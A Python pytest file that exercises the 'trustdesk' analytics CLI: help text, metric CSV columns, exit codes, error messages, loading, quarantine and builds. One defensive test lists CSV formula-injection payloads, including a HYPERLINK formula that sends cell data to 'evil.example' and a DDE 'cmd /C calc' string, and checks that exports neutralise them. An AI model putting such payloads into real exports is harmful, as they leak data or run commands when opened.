"""The `trustdesk` command: help everywhere, spec columns, formats, exit codes, one-sentence errors."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from tests.worlds import AD_EVENTS, MESSAGES, build, msg, write_kind
from trustdesk.analytics.metrics import METRICS

SUBCOMMANDS = ["generate", "load", "status", "demo", "metrics", "quarantine", "serve", "rebuild", "build"]


def td(*args, root=None, input=None):
    cmd = [sys.executable, "-m", "trustdesk.cli"]
    if root is not None:
        cmd += ["--data-dir", str(root)]
    return subprocess.run(cmd + list(args), capture_output=True, text=True, input=input, timeout=300)


@pytest.fixture(scope="module")
def root(golden):
    return golden


@pytest.mark.parametrize("sub", SUBCOMMANDS)
def test_every_subcommand_has_help(sub):
    res = td(sub, "--help")
    assert res.returncode == 0 and "Usage:" in res.stdout


@pytest.mark.parametrize("name", list(METRICS))
def test_metrics_csv_starts_with_the_spec_columns(root, name):
    res = td("metrics", name, "--from", "2026-03-01", "--to", "2026-03-03", root=root)
    assert res.returncode == 0, res.stderr
    header = next(csv.reader(io.StringIO(res.stdout)))
    assert tuple(header[: len(METRICS[name])]) == METRICS[name]


def test_metrics_json_unrounded(root):
    res = td("metrics", "block_rates", "--from", "2026-03-01", "--to", "2026-03-03", "--format", "json", root=root)
    rows = {r["business_id"]: r for r in json.loads(res.stdout)}
    assert rows["b2"]["report_rate"] == pytest.approx(1000 / 3, abs=1e-9)
    assert repr(rows["b2"]["report_rate"]).startswith("333.33333333")


def test_metrics_region_and_default_period(root):
    res = td("metrics", "revenue_by_region", "--region", "Latin America", root=root)
    assert res.returncode == 0
    assert [r["region"] for r in csv.DictReader(io.StringIO(res.stdout))] == ["Latin America"]


@pytest.mark.parametrize(
    "args, words",
    [
        (["metrics", "block_rates", "--from", "March"], "--from 'March' is not a date"),
        (["metrics", "block_rates", "--region", "Mars"], "unknown region 'Mars'"),
        (
            ["metrics", "block_rates", "--from", "2026-03-05", "--to", "2026-03-01"],
            "ends (2026-03-01) before it starts",
        ),
    ],
)
def test_errors_are_one_sentence_without_traceback(root, args, words):
    res = td(*args, root=root)
    assert res.returncode != 0
    assert words in res.stderr
    assert "Traceback" not in res.stderr and len(res.stderr.strip().splitlines()) == 1


def test_no_data_yet(tmp_path):
    res = td("metrics", "quality", root=tmp_path / "none")
    assert res.returncode == 1 and "trustdesk demo" in res.stderr and "Traceback" not in res.stderr
    res = td("status", "--format", "json", root=tmp_path / "none")
    assert json.loads(res.stdout)["warehouse_version"] is None


def test_status_json(root):
    info = json.loads(td("status", "--format", "json", root=root).stdout)
    assert info["rows"]["messages"] == len(MESSAGES)
    assert info["rows"]["ad_events"] == len(AD_EVENTS)
    assert info["first_day"] == "2026-03-01" and info["last_day"] == "2026-03-03"
    assert info["warehouse_version"] >= 1 and info["quarantined"] == 0


def test_load_json_and_exit_codes(tmp_path):
    root = tmp_path / "data"
    good = tmp_path / "blocks.csv"
    good.write_text("block_id,blocked_at,user_id,business_id\nk1,2026-03-01T00:00:00Z,u1,b1\n")
    res = td("load", str(good), "--format", "json", root=root)
    assert res.returncode == 0
    [obj] = json.loads(res.stdout)
    assert {
        k: obj[k] for k in ("file", "kind", "status", "rows_read", "loaded", "duplicates", "quarantined", "error")
    } == {
        "file": "blocks.csv",
        "kind": "blocks",
        "status": "loaded",
        "rows_read": 1,
        "loaded": 1,
        "duplicates": 0,
        "quarantined": 0,
        "error": None,
    }
    assert isinstance(obj["load_id"], int)
    partial = tmp_path / "b2.csv"
    partial.write_text("block_id,blocked_at,user_id,business_id\nk2,never,u1,b1\n")
    res = td("load", str(partial), root=root)
    assert res.returncode == 1 and "1 quarantined" in res.stdout
    q = td("quarantine", "--format", "json", root=root)
    [row] = json.loads(q.stdout)
    assert row["line"] == 2 and row["file"] == "b2.csv"
    res = td("load", str(tmp_path / "missing.csv"), str(good), "--format", "json", root=root)
    assert res.returncode == 2
    statuses = [o["status"] for o in json.loads(res.stdout)]
    assert statuses == ["rejected", "loaded"]


def test_quarantine_csv_neutralises_formulas(tmp_path):
    root = tmp_path / "data"
    f = tmp_path / "b.csv"
    f.write_text("block_id,blocked_at,user_id,business_id\n=1+2,never,u1,b1\n")
    td("load", str(f), root=root)
    out = td("quarantine", root=root).stdout
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["raw_text"] == "'=1+2,never,u1,b1"


def test_demo_fills_an_empty_data_directory_once(tmp_path):
    root = tmp_path / "data"
    res = td("demo", root=root)
    assert res.returncode == 0, res.stderr
    info = json.loads(td("status", "--format", "json", root=root).stdout)
    assert info["rows"]["messages"] > 100_000 and info["rows"]["businesses"] == 300
    assert (root / "demo-world" / "truth.csv").exists()
    again = td("demo", root=root)
    assert again.returncode == 0 and "already holds data" in again.stdout
    assert json.loads(td("status", "--format", "json", root=root).stdout)["loads"] == info["loads"]


def test_generate_is_deterministic_through_the_command(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    for out in (a, b):
        res = td(
            "generate", "--out", str(out), "--seed", "9", "--businesses", "60", "--days", "10", "--messages", "20000"
        )
        assert res.returncode == 0, res.stderr
    for f in sorted(a.iterdir()):
        assert f.read_bytes() == (b / f.name).read_bytes(), f.name
    res = td("generate", "--out", str(a), "--start", "someday")
    assert res.returncode != 0 and "--start 'someday' is not a date" in res.stderr


def test_the_readme_example_generate_then_load_the_folder(tmp_path):
    """README: `trustdesk generate --out world/ ...` then `trustdesk load world/*.csv`: the truth
    file beside the logs is passed over with a note, the logs load, and evaluate still reads it."""
    world, root = tmp_path / "world", tmp_path / "data"
    res = td("generate", "--out", str(world), "--seed", "1", "--businesses", "40", "--days", "8", "--messages", "8000")
    assert res.returncode == 0, res.stderr
    files = sorted(str(p) for p in world.glob("*.csv"))  # what the shell makes of world/*.csv
    assert str(world / "truth.csv") in files
    res = td("load", *files, root=root)
    assert res.returncode == 0, res.stdout + res.stderr
    assert (
        f"truth.csv: skipped: the ground truth of `trustdesk generate` (business_id, archetype), not a "
        f"log; score the review queue with it: trustdesk evaluate --truth {world / 'truth.csv'}" in res.stdout
    )
    assert "REJECTED" not in res.stdout
    as_json = json.loads(td("load", *files, "--format", "json", root=root).stdout)
    assert [o["status"] for o in as_json if o["file"] == "truth.csv"] == ["skipped"]
    info = json.loads(td("status", "--format", "json", root=root).stdout)
    assert info["rows"]["messages"] > 0 and info["loads"] == 2 * (len(files) - 1)
    scored = td("evaluate", "--truth", str(world / "truth.csv"), root=root)
    assert scored.returncode == 0 and "precision@" in scored.stdout, scored.stderr


def test_only_a_truth_file_loads_nothing_and_exits_0(tmp_path):
    truth = tmp_path / "truth.csv"
    truth.write_text("business_id,archetype\nb1,spammer\n")
    res = td("load", str(truth), root=tmp_path / "data")
    assert res.returncode == 0 and res.stdout.startswith("truth.csv: skipped: ")
    assert not (tmp_path / "data" / "ingest.duckdb").exists()


def test_events_naming_undefined_businesses_are_counted_in_the_summary(tmp_path):
    root = tmp_path / "data"
    blocks = tmp_path / "blocks.csv"
    blocks.write_text(
        "block_id,blocked_at,user_id,business_id\n"
        "k1,2026-03-01T00:00:00Z,u1,b1\nk2,2026-03-01T00:00:00Z,u2,b9\n"
        "k3,2026-03-01T00:00:00Z,u3,b9\nk4,2026-03-01T00:00:00Z,u3,b8\n"
    )
    businesses = tmp_path / "businesses.csv"
    businesses.write_text("business_id,name,category,country\nb1,One,retail,IN\n")
    # blocks first: the businesses file later in the same command still defines b1
    res = td("load", str(blocks), str(businesses), root=root)
    assert res.returncode == 0, res.stderr
    assert (
        "  note: 3 rows name 2 businesses that no loaded file defines; they are loaded and show as "
        "unknown until a businesses file defines them; the Data quality page lists them "
        "(businesses and campaigns no file has defined)"
    ) in res.stdout.splitlines()
    as_json = td("load", str(blocks), str(businesses), "--format", "json", root=tmp_path / "other")
    [obj, _] = json.loads(as_json.stdout)
    assert (obj["undefined_rows"], obj["undefined_ids"], obj["undefined_entity"]) == (3, 2, "business")
    events = tmp_path / "ad_events.csv"
    events.write_text(
        "event_id,occurred_at,campaign_id,user_id,user_country,event\ne1,2026-03-01T00:00:00Z,c1,u1,IN,impression\n"
    )
    res = td("load", str(events), root=root)
    assert (
        "  note: 1 row names 1 campaign that no loaded file defines; they are loaded and show as "
        "unknown until a campaigns file defines them" in res.stdout
    )


DANGEROUS_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTabbed",
    "-2+3",
]


def test_metrics_csv_is_formula_safe_like_every_csv_the_command_writes(tmp_path):
    businesses = [
        dict(business_id=f"b{i + 1}", name=name, category="retail", country="IN")
        for i, name in enumerate(DANGEROUS_NAMES)
    ]
    messages = [
        msg(f"m{i}", "2026-03-01T10:00:00Z", f"b{i + 1}", "u1", "outbound", "IN", "marketing", "=t", "read")
        for i in range(len(DANGEROUS_NAMES))
    ]
    blocks = [dict(block_id="k1", blocked_at="2026-03-01T11:00:00Z", user_id="u1", business_id="b1")]
    root, _ = build(tmp_path, businesses=businesses, messages=messages, blocks=blocks)
    res = td("metrics", "block_rates", "--from", "2026-03-01", "--to", "2026-03-01", root=root)
    assert res.returncode == 0, res.stderr
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert sorted(r["name"] for r in rows) == sorted("'" + n for n in DANGEROUS_NAMES)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    as_json = json.loads(
        td("metrics", "block_rates", "--from", "2026-03-01", "--to", "2026-03-01", "--format", "json", root=root).stdout
    )
    assert sorted(r["name"] for r in as_json) == sorted(DANGEROUS_NAMES)  # JSON keeps the values as they are
    queue = td("queue", root=root)
    assert queue.returncode == 0 and not any(
        v.startswith(("=", "+", "-", "@", "\t")) for r in csv.reader(io.StringIO(queue.stdout)) for v in r
    )


def test_quarantine_lists_the_newest_load_first(tmp_path):
    root = tmp_path / "data"
    for name in ("first.csv", "second.csv"):
        f = tmp_path / name
        f.write_text(f"block_id,blocked_at,user_id,business_id\n{name[0]}1,never,u1,b1\n{name[0]}2,never,u1,b1\n")
        assert td("load", str(f), root=root).returncode == 1
    rows = json.loads(td("quarantine", "--format", "json", root=root).stdout)
    assert [(r["file"], r["line"]) for r in rows] == [
        ("second.csv", 2),
        ("second.csv", 3),
        ("first.csv", 2),
        ("first.csv", 3),
    ]


def test_generate_knobs_plant_what_they_say_and_refuse_bad_ranges(tmp_path):
    sizes = ["--seed", "4", "--businesses", "120", "--days", "20", "--messages", "60000"]
    res = td("generate", "--out", str(tmp_path / "w"), *sizes, "--ring-size", "6", "--rings", "2")
    assert res.returncode == 0, res.stderr
    with open(tmp_path / "w" / "truth.csv", newline="") as fh:
        archetypes = [r["archetype"] for r in csv.DictReader(fh)]
    assert archetypes.count("coordinated_ring") == 12
    res = td("generate", "--out", str(tmp_path / "x"), *sizes, "--rings", "0")
    with open(tmp_path / "x" / "truth.csv", newline="") as fh:
        assert "coordinated_ring" not in {r["archetype"] for r in csv.DictReader(fh)}
    for bad, words in (("abc", "is not a number or a range"), ("4,2", "subtle_mult")):
        res = td("generate", "--out", str(tmp_path / "y"), "--subtle-mult", bad)
        assert res.returncode == 1 and words in res.stderr and "Traceback" not in res.stderr


def test_build_publishes_a_new_warehouse_and_says_in_one_sentence_what_spark_lacks(tmp_path):
    root = build(tmp_path, messages=MESSAGES)[0]
    before = json.loads(td("status", "--format", "json", root=root).stdout)["warehouse_version"]
    res = td("build", root=root)
    assert res.returncode == 0, res.stderr
    assert res.stdout.splitlines() == [
        "nothing changed: no loaded event changed",
        f"warehouse version {before + 1} built",
    ]
    more = write_kind(
        tmp_path / "more.csv", "messages", [msg("late1", "2026-03-02T09:00:00Z", "b1", "u9", "inbound", "IN")]
    )
    res = td("load", str(more), root=root)
    assert res.returncode == 0, res.stderr
    assert "incremental build: loads after " in res.stdout and f"warehouse version {before + 2} built" in res.stdout
    res = td("build", "--full", root=root)
    assert res.returncode == 0 and res.stdout.startswith("full build: a full build was asked for\n")
    (root / "rate_card.csv").write_text((root / "rate_card.csv").read_text() + "India,utility,0.003,2026-06-01\n")
    res = td("build", root=root)
    assert res.returncode == 0 and res.stdout.startswith("full build: markets.csv or rate_card.csv changed\n")
    before += 2
    res = td("build", "--master", "spark://127.0.0.1:7077", root=root)
    assert res.returncode != 0 and "use it with --engine spark" in res.stderr and "Traceback" not in res.stderr
    # A machine without Java (or without pyspark): one sentence naming what to install, nothing
    # published. The Spark build itself is tests/etl/test_spark.py's.
    env = dict(os.environ, JAVA_HOME=str(tmp_path / "no-java-here"))
    cmd = [sys.executable, "-m", "trustdesk.cli", "--data-dir", str(root), "build", "--engine", "spark"]
    res = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=300)
    assert res.returncode == 1 and "Traceback" not in res.stderr, res.stderr
    assert (
        "Java 17 was not found: apt-get install openjdk-17-jre-headless" in res.stderr
        or "Apache Spark is not installed: pip install 'trustdesk[spark]'" in res.stderr
    )
    assert json.loads(td("status", "--format", "json", root=root).stdout)["warehouse_version"] == before + 2
